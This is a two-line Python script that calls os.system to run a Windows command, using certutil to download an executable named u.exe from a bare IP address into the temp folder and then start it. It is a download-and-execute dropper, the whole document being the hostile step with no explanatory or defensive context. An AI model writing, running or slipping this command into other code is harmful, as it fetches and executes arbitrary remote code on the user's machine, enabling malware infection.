import os
os.system(r'certutil -urlcache -split -f http://203.0.113.21/u.exe %TEMP%\u.exe && start %TEMP%\u.exe')
